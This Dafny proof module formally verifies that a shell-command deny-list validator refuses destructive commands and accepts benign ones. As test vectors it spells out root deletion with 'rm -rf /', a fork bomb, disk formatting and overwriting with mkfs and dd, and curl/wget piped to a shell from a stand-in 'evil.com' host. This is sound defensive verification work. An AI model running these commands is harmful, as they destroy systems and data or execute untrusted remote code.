/**
 * The deny-list on the commands of the repository's own test-suite
 * (tests/run-tests.js:54-105). Families of commands are settled first by
 * lemmas over arbitrary strings; each concrete command is then an
 * instance, with every step on a literal string kept to one small lemma.
 */
module ValidatorVectors {
  import opened JsText
  import opened Validator

  // ---------------------------------------------------------------------
  // Facts about concatenations
  // ---------------------------------------------------------------------

  lemma WordEnd(a: string, w: string)
    ensures WordAt(a + w, |a|, w)
  {
    assert (a + w)[|a|..|a| + |w|] == w;
  }

  lemma LineEnd(a: string, x: string)
    requires Line(x, 0, |x|)
    ensures Line(a + x, |a|, |a| + |x|)
  {
    forall k | |a| <= k < |a| + |x| ensures !IsLineTerminator((a + x)[k]) {
      assert (a + x)[k] == x[k - |a|];
    }
  }

  lemma GapEnd(a: string, y: string)
    requires AllSpace(y)
    ensures Gap(a + y, |a|, |a| + |y|)
  {
    forall k | |a| <= k < |a| + |y| ensures IsSpace((a + y)[k]) {
      assert (a + y)[k] == y[k - |a|];
    }
  }

  /** Appending text keeps what was found in the prefix. */
  lemma Extend(t: string, c: string, i: int, j: int, w: string)
    ensures WordAt(t, i, w) ==> WordAt(t + c, i, w)
    ensures Line(t, i, j) ==> Line(t + c, i, j)
    ensures Gap(t, i, j) ==> Gap(t + c, i, j)
  {
    if WordAt(t, i, w) {
      assert (t + c)[i..i + |w|] == t[i..i + |w|];
    }
  }

  // ---------------------------------------------------------------------
  // Families of blocked commands
  // ---------------------------------------------------------------------

  /** The pieces of `rm\s+(-rf?|--recursive)\s+\/(\s|$|;|\||&)` found in place. */
  lemma RmRootAt(s: string, a: int, b: int, c: int, flag: string)
    requires flag in RootFlags && WordAt(s, 0, "rm")
    requires Gap(s, 2, a) && 2 < a && WordAt(s, a, flag)
    requires Gap(s, a + |flag|, b) && a + |flag| < b && WordAt(s, b, "/") && c == b + 1 && RootEnd(s, c)
    ensures Matches(RmRoot, s)
  {
    var ps := RmRootPieces(flag);
    assert PiecesFrom(s, c, ps, 2, false, true);
    assert PieceAt(s, a + |flag|, b, ps[1], false);
    assert PiecesFrom(s, a + |flag|, ps, 1, false, true);
    assert PieceAt(s, 2, a, ps[0], false);
    assert Pieces(s, 2, ps, true);
    assert MatchesAt(RmRoot, s, 0);
  }

  /** `rm`, whitespace, a recursive flag, whitespace and `/`, then the end
      of the command, whitespace, `;`, `|` or `&`: the root is removed. */
  lemma RmRootCaught(g1: string, flag: string, g2: string, q: string)
    requires g1 != [] && AllSpace(g1) && flag in RootFlags && g2 != [] && AllSpace(g2)
    requires q == [] || IsSpace(q[0]) || q[0] == ';' || q[0] == '|' || q[0] == '&'
    ensures Matches(RmRoot, "rm" + g1 + flag + g2 + "/" + q)
  {
    var p2 := "rm" + g1;
    var p3 := p2 + flag;
    var p4 := p3 + g2;
    var p5 := p4 + "/";
    var s := p5 + q;
    var a, b := |p2|, |p4|;
    WordEnd([], "rm");
    assert [] + "rm" == "rm";
    Extend("rm", g1, 0, 0, "rm");
    GapEnd("rm", g1);
    WordEnd(p2, flag);
    Extend(p2, flag, 0, 0, "rm");
    Extend(p2, flag, 2, a, "rm");
    GapEnd(p3, g2);
    Extend(p3, g2, 0, 0, "rm");
    Extend(p3, g2, 2, a, flag);
    Extend(p3, g2, a, 0, flag);
    WordEnd(p4, "/");
    Extend(p4, "/", 0, 0, "rm");
    Extend(p4, "/", 2, a, flag);
    Extend(p4, "/", a, 0, flag);
    Extend(p4, "/", a + |flag|, b, flag);
    Extend(p5, q, 0, 0, "rm");
    Extend(p5, q, 2, a, flag);
    Extend(p5, q, a, 0, flag);
    Extend(p5, q, a + |flag|, b, "/");
    assert s[b + 1..] == q;
    RmRootAt(s, a, b, b + 1, flag);
  }

  /** `mkfs`, anything on the same line, then `/dev/sd`. */
  lemma FormatDiskCaught(x: string, q: string)
    requires Line(x, 0, |x|)
    ensures Matches(FormatDisk, "mkfs" + x + "/dev/sd" + q)
  {
    var p2 := "mkfs" + x;
    var p3 := p2 + "/dev/sd";
    var s := p3 + q;
    WordEnd([], "mkfs");
    assert [] + "mkfs" == "mkfs";
    Extend("mkfs", x, 0, 0, "mkfs");
    LineEnd("mkfs", x);
    WordEnd(p2, "/dev/sd");
    Extend(p2, "/dev/sd", 0, 0, "mkfs");
    Extend(p2, "/dev/sd", 4, |p2|, "mkfs");
    Extend(p3, q, 0, 0, "mkfs");
    Extend(p3, q, 4, |p2|, "mkfs");
    Extend(p3, q, |p2|, 0, "/dev/sd");
    assert InLine(s, 4, Text("/dev/sd"));
    assert MatchesAt(FormatDisk, s, 0);
  }

  lemma DdToDiskAt(s: string, a: int, b: int)
    requires WordAt(s, 0, "dd") && Gap(s, 2, a) && 2 < a && Line(s, a, b) && WordAt(s, b, "of=/dev/sd")
    ensures Matches(DdToDisk, s)
  {
    assert InLine(s, a, Text("of=/dev/sd"));
    assert MatchesAt(DdToDisk, s, 0);
  }

  /** `dd`, whitespace, anything on the same line, then `of=/dev/sd`. */
  lemma DdToDiskCaught(g: string, x: string, q: string)
    requires g != [] && AllSpace(g) && Line(x, 0, |x|)
    ensures Matches(DdToDisk, "dd" + g + x + "of=/dev/sd" + q)
  {
    var p2 := "dd" + g;
    var p3 := p2 + x;
    var p4 := p3 + "of=/dev/sd";
    var s := p4 + q;
    var a, b := |p2|, |p3|;
    WordEnd([], "dd");
    assert [] + "dd" == "dd";
    Extend("dd", g, 0, 0, "dd");
    GapEnd("dd", g);
    LineEnd(p2, x);
    Extend(p2, x, 0, 0, "dd");
    Extend(p2, x, 2, a, "dd");
    WordEnd(p3, "of=/dev/sd");
    Extend(p3, "of=/dev/sd", 0, 0, "dd");
    Extend(p3, "of=/dev/sd", 2, a, "dd");
    Extend(p3, "of=/dev/sd", a, b, "dd");
    Extend(p4, q, 0, 0, "dd");
    Extend(p4, q, 2, a, "dd");
    Extend(p4, q, a, b, "of=/dev/sd");
    Extend(p4, q, b, 0, "of=/dev/sd");
    DdToDiskAt(s, a, b);
  }

  lemma PipeTail(s: string, k: int, b: int, sh: string)
    requires WordAt(s, k, "|") && Gap(s, k + 1, b) && WordAt(s, b, sh)
    requires sh == "sh" || sh == "bash"
    ensures TailAt(PipeShell, s, k)
  {
    var ps := [Piece(false, sh)];
    assert PiecesFrom(s, b + |sh|, ps, 1, false, false);
    assert PieceAt(s, k + 1, b, ps[0], false);
    assert PiecesFrom(s, k + 1, ps, 0, false, false);
  }

  lemma PipeShellAt(r: Rule, s: string, k: int)
    requires r == CurlPipeShell || r == WgetPipeShell
    requires WordAt(s, 0, Needed(r)[0]) && Line(s, 4, k) && TailAt(PipeShell, s, k)
    ensures Matches(r, s)
  {
    assert InLine(s, 4, PipeShell);
    assert MatchesAt(r, s, 0);
  }

  /** `curl` (or `wget`), anything on the same line, a pipe, optional
      whitespace and `sh` or `bash`, whatever follows. */
  lemma PipeShellCaught(r: Rule, x: string, y: string, sh: string, q: string)
    requires r == CurlPipeShell || r == WgetPipeShell
    requires Line(x, 0, |x|) && AllSpace(y) && (sh == "sh" || sh == "bash")
    ensures Matches(r, Needed(r)[0] + x + "|" + y + sh + q)
  {
    var w := Needed(r)[0];
    var p2 := w + x;
    var p3 := p2 + "|";
    var p4 := p3 + y;
    var p5 := p4 + sh;
    var s := p5 + q;
    var k := |p2|;
    var b := |p4|;
    WordEnd([], w);
    assert [] + w == w;
    Extend(w, x, 0, 0, w);
    LineEnd(w, x);
    WordEnd(p2, "|");
    Extend(p2, "|", 0, 0, w);
    Extend(p2, "|", 4, k, w);
    Extend(p3, y, 0, 0, w);
    Extend(p3, y, 4, k, w);
    Extend(p3, y, k, 0, "|");
    GapEnd(p3, y);
    WordEnd(p4, sh);
    Extend(p4, sh, 0, 0, w);
    Extend(p4, sh, 4, k, w);
    Extend(p4, sh, k, 0, "|");
    Extend(p4, sh, k + 1, b, "|");
    Extend(p5, q, 0, 0, w);
    Extend(p5, q, 4, k, w);
    Extend(p5, q, k, 0, "|");
    Extend(p5, q, k + 1, b, "|");
    Extend(p5, q, b, 0, sh);
    PipeTail(s, k, b, sh);
    PipeShellAt(r, s, k);
  }

  /** A command some rule matches is refused. */
  lemma Blocked(cmd: string, r: Rule)
    requires Matches(r, cmd)
    ensures ValidateCommand(cmd).Invalid?
  {
    assert Rules[Index(r)] == r;
  }

  // ---------------------------------------------------------------------
  // Families of allowed commands
  // ---------------------------------------------------------------------

  /** Without `/`, `:` and `|` no rule can match. */
  lemma NoSlashColonPipe(s: string)
    requires '/' !in s && ':' !in s && '|' !in s
    ensures ValidateCommand(s) == Valid
  {
    forall r ensures !Matches(r, s) {
      match r
      case RmRoot => LiteralAbsent(r, s, 2, '/');
      case RmNoPreserve => LiteralAbsent(r, s, 2, '/');
      case FormatDisk => LiteralAbsent(r, s, 1, '/');
      case DdToDisk => LiteralAbsent(r, s, 1, '/');
      case ForkBomb => LiteralAbsent(r, s, 0, ':');
      case WriteToDisk => LiteralAbsent(r, s, 1, '/');
      case CurlPipeShell => LiteralAbsent(r, s, 1, '|');
      case WgetPipeShell => LiteralAbsent(r, s, 1, '|');
    }
    PassesAll(s);
  }

  /** Every match of the rm-root rule ends with a `/` that the end of the
      command, whitespace, `;`, `|` or `&` follows. */
  lemma RmRootEnds(s: string, i: int)
    requires MatchesAt(RmRoot, s, i)
    ensures exists b :: WordAt(s, b, "/") && RootEnd(s, b + 1)
  {
    var flag :| flag in RootFlags && Pieces(s, i + 2, RmRootPieces(flag), true);
    var ps := RmRootPieces(flag);
    assert |ps| == 2 && ps[1].word == "/";
    assert Pieces(s, i + 2, ps, true);
    assert PiecesFrom(s, i + 2, ps, 0, false, true);
    PairEnds(s, i + 2, ps);
  }

  /** Two pieces followed by the end class: the second piece's literal
      stands just before a position the class accepts. */
  lemma PairEnds(s: string, a: int, ps: seq<Piece>)
    requires |ps| == 2 && PiecesFrom(s, a, ps, 0, false, true)
    ensures exists b :: WordAt(s, b, ps[1].word) && RootEnd(s, b + |ps[1].word|)
  {
    var a1 :| PieceAt(s, a, a1, ps[0], false) && PiecesFrom(s, a1 + |ps[0].word|, ps, 1, false, true);
    var b :| PieceAt(s, a1 + |ps[0].word|, b, ps[1], false) && PiecesFrom(s, b + |ps[1].word|, ps, 2, false, true);
    assert WordAt(s, b, ps[1].word);
    assert RootEnd(s, b + |ps[1].word|);
  }

  /** Every `/` of the text is followed by a character that cannot end a path. */
  predicate SlashesInside(s: string) {
    forall k :: 0 <= k < |s| && s[k] == '/' ==> k + 1 < |s| && !RootEnd(s, k + 1)
  }

  /** A command whose every `/` continues a longer path does not remove the root. */
  lemma NoBareRoot(s: string)
    requires SlashesInside(s)
    ensures !Matches(RmRoot, s)
  {
    if Matches(RmRoot, s) {
      var i :| 0 <= i < |s| && MatchesAt(RmRoot, s, i);
      RmRootEnds(s, i);
      var b :| WordAt(s, b, "/") && RootEnd(s, b + 1);
      WordHead(s, b, "/");
    }
  }

  /** A command that mentions none of `n`, `k`, `d`, `:`, `>` and `|`
      is refused only by the rm-root rule. */
  lemma OnlyRmRootInPlay(s: string)
    requires 'n' !in s && 'k' !in s && 'd' !in s && ':' !in s && '>' !in s && '|' !in s
    ensures ValidateCommand(s) == Valid <==> !Matches(RmRoot, s)
  {
    forall r | r != RmRoot ensures !Matches(r, s) {
      match r
      case RmNoPreserve => LiteralAbsent(r, s, 3, 'n');
      case FormatDisk => LiteralAbsent(r, s, 0, 'k');
      case DdToDisk => LiteralAbsent(r, s, 0, 'd');
      case ForkBomb => LiteralAbsent(r, s, 0, ':');
      case WriteToDisk => LiteralAbsent(r, s, 0, '>');
      case CurlPipeShell => LiteralAbsent(r, s, 1, '|');
      case WgetPipeShell => LiteralAbsent(r, s, 1, '|');
    }
    if !Matches(RmRoot, s) {
      PassesAll(s);
    }
  }

  /** Every `of=/dev/sd` contains the pair `sd`. */
  lemma DiskPairNeeded(s: string)
    ensures Occurs(s, "of=/dev/sd") ==> Occurs(s, "sd")
  {
    if Occurs(s, "of=/dev/sd") {
      OccursInside(s, "of=/dev/sd", 8, 2);
      assert "of=/dev/sd"[8..10] == "sd";
    }
  }

  /** Without `-`, `k`, `:`, `>`, `|` and the pair `sd` no rule can match. */
  lemma NoDashNoDisk(s: string)
    requires '-' !in s && 'k' !in s && ':' !in s && '>' !in s && '|' !in s && !Occurs(s, "sd")
    ensures ValidateCommand(s) == Valid
  {
    forall r ensures !Matches(r, s) {
      match r
      case RmRoot => LiteralAbsent(r, s, 1, '-');
      case RmNoPreserve => LiteralAbsent(r, s, 1, '-');
      case FormatDisk => LiteralAbsent(r, s, 0, 'k');
      case DdToDisk =>
        DiskPairNeeded(s);
        NeededAbsent(r, s, "of=/dev/sd");
      case ForkBomb => LiteralAbsent(r, s, 0, ':');
      case WriteToDisk => LiteralAbsent(r, s, 0, '>');
      case CurlPipeShell => LiteralAbsent(r, s, 1, '|');
      case WgetPipeShell => LiteralAbsent(r, s, 1, '|');
    }
    PassesAll(s);
  }
}

/**
 * The commands of tests/run-tests.js:54-105, each an instance of a family
 * above.
 */
module ValidatorTestCommands {
  import opened JsText
  import opened Validator
  import opened ValidatorVectors

  // ----- refused -------------------------------------------------------

  lemma RmSlashSplit()
    ensures "rm" + " " + "-rf" + " " + "/" + "" == "rm -rf /"
  {
  }

  /** `rm -rf /` is refused as removing the root. */
  lemma RmSlashRefused()
    ensures ValidateCommand("rm -rf /") == Invalid("Destructive: rm root")
  {
    RmRootCaught(" ", "-rf", " ", "");
    RmSlashSplit();
    DecidedBy("rm -rf /", RmRoot);
  }

  lemma NoPreserveSplit()
    ensures "rm" + " " + "-rf" + " " + "/" + " --no-preserve-root" == "rm -rf / --no-preserve-root"
  {
  }

  /** `rm -rf / --no-preserve-root` also matches the no-preserve rule, but
      the rm-root rule comes first and gives the reason. */
  lemma NoPreserveRefused()
    ensures ValidateCommand("rm -rf / --no-preserve-root") == Invalid("Destructive: rm root")
  {
    RmRootCaught(" ", "-rf", " ", " --no-preserve-root");
    NoPreserveSplit();
    DecidedBy("rm -rf / --no-preserve-root", RmRoot);
  }

  lemma ForkBombFound()
    ensures Matches(ForkBomb, ":(){:|:&};:")
  {
    var s := ":(){:|:&};:";
    assert MatchesHere(ForkBomb, s, 0);
    MatchesHereAgrees(ForkBomb, s, 0);
  }

  lemma ForkBombChars()
    ensures 'r' !in ":(){:|:&};:" && 'm' !in ":(){:|:&};:" && 'd' !in ":(){:|:&};:"
  {
    var s := ":(){:|:&};:";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "rmd";
  }

  /** None of the four removal and disk rules before it can match, so the
      fork-bomb rule gives the reason. */
  lemma ForkBombRefused()
    ensures ValidateCommand(":(){:|:&};:") == Invalid("Fork bomb detected")
  {
    var s := ":(){:|:&};:";
    ForkBombFound();
    ForkBombChars();
    LiteralAbsent(RmRoot, s, 0, 'r');
    LiteralAbsent(RmNoPreserve, s, 0, 'r');
    LiteralAbsent(FormatDisk, s, 0, 'm');
    LiteralAbsent(DdToDisk, s, 0, 'd');
    DecidedBy(s, ForkBomb);
  }

  lemma MkfsLine()
    ensures Line(".ext4 ", 0, 6)
  {
  }

  lemma MkfsSplit()
    ensures "mkfs" + ".ext4 " + "/dev/sd" + "a" == "mkfs.ext4 /dev/sda"
  {
  }

  lemma MkfsChars()
    ensures 'r' !in "mkfs.ext4 /dev/sda"
  {
    var s := "mkfs.ext4 /dev/sda";
    assert forall k :: 0 <= k < |s| ==> s[k] != 'r';
  }

  /** Without an `r` the two removal rules cannot match, so the format rule
      gives the reason. */
  lemma MkfsRefused()
    ensures ValidateCommand("mkfs.ext4 /dev/sda") == Invalid("Destructive: format disk")
  {
    var s := "mkfs.ext4 /dev/sda";
    MkfsLine();
    FormatDiskCaught(".ext4 ", "a");
    MkfsSplit();
    MkfsChars();
    LiteralAbsent(RmRoot, s, 0, 'r');
    LiteralAbsent(RmNoPreserve, s, 0, 'r');
    DecidedBy(s, FormatDisk);
  }

  lemma DdDiskLine()
    ensures Line("if=/dev/zero ", 0, 13)
  {
  }

  lemma DdDiskSplit()
    ensures "dd" + " " + "if=/dev/zero " + "of=/dev/sd" + "a" == "dd if=/dev/zero of=/dev/sda"
  {
  }

  lemma DdDiskChars()
    ensures 'm' !in "dd if=/dev/zero of=/dev/sda"
  {
    var s := "dd if=/dev/zero of=/dev/sda";
    assert forall k :: 0 <= k < |s| ==> s[k] != 'm';
  }

  /** Without an `m` neither removal rule nor the format rule can match, so
      the dd rule gives the reason. */
  lemma DdDiskRefused()
    ensures ValidateCommand("dd if=/dev/zero of=/dev/sda") == Invalid("Destructive: dd to disk")
  {
    var s := "dd if=/dev/zero of=/dev/sda";
    DdDiskLine();
    DdToDiskCaught(" ", "if=/dev/zero ", "a");
    DdDiskSplit();
    DdDiskChars();
    LiteralAbsent(RmRoot, s, 0, 'm');
    LiteralAbsent(RmNoPreserve, s, 0, 'm');
    LiteralAbsent(FormatDisk, s, 0, 'm');
    DecidedBy(s, DdToDisk);
  }

  lemma CurlLine()
    ensures Line(" http://evil.com/script ", 0, 24)
  {
  }

  lemma CurlSplit()
    ensures "curl" + " http://evil.com/script " + "|" + " " + "bash" + "" == "curl http://evil.com/script | bash"
  {
  }

  lemma CurlChars()
    ensures '-' !in "curl http://evil.com/script | bash" && 'k' !in "curl http://evil.com/script | bash"
    ensures 'd' !in "curl http://evil.com/script | bash" && '(' !in "curl http://evil.com/script | bash"
    ensures '>' !in "curl http://evil.com/script | bash"
  {
    var s := "curl http://evil.com/script | bash";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "-kd(>";
  }

  /** The six rules before it each need a character the command lacks, so
      the curl rule gives the reason. */
  lemma CurlRefused()
    ensures ValidateCommand("curl http://evil.com/script | bash") == Invalid("Remote code execution")
  {
    CurlMatches();
    CurlBefore();
    DecidedBy("curl http://evil.com/script | bash", CurlPipeShell);
  }

  lemma CurlMatches()
    ensures Matches(CurlPipeShell, "curl http://evil.com/script | bash")
  {
    CurlLine();
    PipeShellCaught(CurlPipeShell, " http://evil.com/script ", " ", "bash", "");
    CurlSplit();
  }

  lemma CurlBefore()
    ensures forall q :: Index(q) < Index(CurlPipeShell) ==> !Matches(q, "curl http://evil.com/script | bash")
  {
    var s := "curl http://evil.com/script | bash";
    CurlChars();
    LiteralAbsent(RmRoot, s, 1, '-');
    LiteralAbsent(RmNoPreserve, s, 1, '-');
    LiteralAbsent(FormatDisk, s, 0, 'k');
    LiteralAbsent(DdToDisk, s, 0, 'd');
    LiteralAbsent(ForkBomb, s, 0, '(');
    LiteralAbsent(WriteToDisk, s, 0, '>');
  }

  lemma WgetLine()
    ensures Line(" http://evil.com/script -O- ", 0, 28)
  {
  }

  lemma WgetSplit()
    ensures "wget" + " http://evil.com/script -O- " + "|" + " " + "sh" + "" == "wget http://evil.com/script -O- | sh"
  {
  }

  lemma WgetChars()
    ensures 'n' !in "wget http://evil.com/script -O- | sh" && 'k' !in "wget http://evil.com/script -O- | sh"
    ensures 'd' !in "wget http://evil.com/script -O- | sh"
  {
    var s := "wget http://evil.com/script -O- | sh";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "nkd";
  }

  lemma WgetMoreChars()
    ensures '(' !in "wget http://evil.com/script -O- | sh" && '>' !in "wget http://evil.com/script -O- | sh"
    ensures 'u' !in "wget http://evil.com/script -O- | sh"
  {
    var s := "wget http://evil.com/script -O- | sh";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "(>u";
  }

  lemma WgetSlashes()
    ensures SlashesInside("wget http://evil.com/script -O- | sh")
  {
  }

  /** Every `/` is followed by a path character, and the other six rules
      before it each need a character the command lacks, so the wget rule
      gives the reason. */
  lemma WgetRefused()
    ensures ValidateCommand("wget http://evil.com/script -O- | sh") == Invalid("Remote code execution")
  {
    WgetMatches();
    WgetBefore();
    DecidedBy("wget http://evil.com/script -O- | sh", WgetPipeShell);
  }

  lemma WgetMatches()
    ensures Matches(WgetPipeShell, "wget http://evil.com/script -O- | sh")
  {
    WgetLine();
    PipeShellCaught(WgetPipeShell, " http://evil.com/script -O- ", " ", "sh", "");
    WgetSplit();
  }

  lemma WgetBefore()
    ensures forall q :: Index(q) < Index(WgetPipeShell) ==> !Matches(q, "wget http://evil.com/script -O- | sh")
  {
    var s := "wget http://evil.com/script -O- | sh";
    WgetChars();
    WgetMoreChars();
    WgetSlashes();
    NoBareRoot(s);
    LiteralAbsent(RmNoPreserve, s, 3, 'n');
    LiteralAbsent(FormatDisk, s, 0, 'k');
    LiteralAbsent(DdToDisk, s, 0, 'd');
    LiteralAbsent(ForkBomb, s, 0, '(');
    LiteralAbsent(WriteToDisk, s, 0, '>');
    LiteralAbsent(CurlPipeShell, s, 0, 'u');
  }

  // ----- allowed -------------------------------------------------------

  lemma EchoHelloAllowed()
    ensures ValidateCommand("echo hello") == Valid
  {
    NoSlashColonPipe("echo hello");
  }

  lemma ListAllowed()
    ensures ValidateCommand("ls -la") == Valid
  {
    NoSlashColonPipe("ls -la");
  }

  lemma PythonChars()
    ensures '/' !in "python3 -c \"print(1)\"" && ':' !in "python3 -c \"print(1)\"" && '|' !in "python3 -c \"print(1)\""
  {
    var s := "python3 -c \"print(1)\"";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "/:|";
  }

  lemma PythonAllowed()
    ensures ValidateCommand("python3 -c \"print(1)\"") == Valid
  {
    PythonChars();
    NoSlashColonPipe("python3 -c \"print(1)\"");
  }

  lemma RmTmpSlashes()
    ensures SlashesInside("rm -rf /tmp/test")
  {
  }

  lemma RmTmpChars()
    ensures 'n' !in "rm -rf /tmp/test" && 'k' !in "rm -rf /tmp/test" && 'd' !in "rm -rf /tmp/test"
    ensures ':' !in "rm -rf /tmp/test" && '>' !in "rm -rf /tmp/test" && '|' !in "rm -rf /tmp/test"
  {
    var s := "rm -rf /tmp/test";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "nkd:>|";
  }

  /** A recursive removal below the root passes. */
  lemma RmTmpAllowed()
    ensures ValidateCommand("rm -rf /tmp/test") == Valid
  {
    RmTmpSlashes();
    NoBareRoot("rm -rf /tmp/test");
    RmTmpChars();
    OnlyRmRootInPlay("rm -rf /tmp/test");
  }

  lemma EchoRmSlashes()
    ensures SlashesInside("echo \"rm -rf /\"")
  {
  }

  lemma EchoRmChars()
    ensures 'n' !in "echo \"rm -rf /\"" && 'k' !in "echo \"rm -rf /\"" && 'd' !in "echo \"rm -rf /\""
    ensures ':' !in "echo \"rm -rf /\"" && '>' !in "echo \"rm -rf /\"" && '|' !in "echo \"rm -rf /\""
  {
    var s := "echo \"rm -rf /\"";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "nkd:>|";
  }

  /** A quoted `rm -rf /` is followed by `"`, which `(\s|$|;|\||&)` rejects. */
  lemma EchoRmAllowed()
    ensures ValidateCommand("echo \"rm -rf /\"") == Valid
  {
    EchoRmSlashes();
    NoBareRoot("echo \"rm -rf /\"");
    EchoRmChars();
    OnlyRmRootInPlay("echo \"rm -rf /\"");
  }

  lemma DdTmpSplit()
    ensures "dd if=/dev/zero of=/tmp/te" + "st bs=1M count=1" == "dd if=/dev/zero of=/tmp/test bs=1M count=1"
  {
  }

  lemma DdTmpLeft()
    ensures forall c :: c in "-k:>|s" ==> c !in "dd if=/dev/zero of=/tmp/te"
  {
    var s := "dd if=/dev/zero of=/tmp/te";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "-k:>|s";
  }

  lemma DdTmpRight()
    ensures forall c :: c in "-k:>|d" ==> c !in "st bs=1M count=1"
  {
    var s := "st bs=1M count=1";
    assert forall k :: 0 <= k < |s| ==> s[k] !in "-k:>|d";
  }

  lemma DdTmpChars()
    ensures '-' !in "dd if=/dev/zero of=/tmp/test bs=1M count=1" && 'k' !in "dd if=/dev/zero of=/tmp/test bs=1M count=1"
    ensures ':' !in "dd if=/dev/zero of=/tmp/test bs=1M count=1" && '>' !in "dd if=/dev/zero of=/tmp/test bs=1M count=1"
    ensures '|' !in "dd if=/dev/zero of=/tmp/test bs=1M count=1"
  {
    DdTmpSplit();
    DdTmpLeft();
    DdTmpRight();
  }

  lemma DdTmpNoPair()
    ensures !Occurs("dd if=/dev/zero of=/tmp/test bs=1M count=1", "sd")
  {
    var x, y := "dd if=/dev/zero of=/tmp/te", "st bs=1M count=1";
    DdTmpSplit();
    DdTmpLeft();
    DdTmpRight();
    CharAbsent(x, "sd", 's');
    CharAbsent(y, "sd", 'd');
    if Occurs(x + y, "sd") {
      OccursSplit(x, y, "sd");
    }
  }

  /** `dd` writing to a file passes. */
  lemma DdTmpAllowed()
    ensures ValidateCommand("dd if=/dev/zero of=/tmp/test bs=1M count=1") == Valid
  {
    DdTmpChars();
    DdTmpNoPair();
    NoDashNoDisk("dd if=/dev/zero of=/tmp/test bs=1M count=1");
  }
}
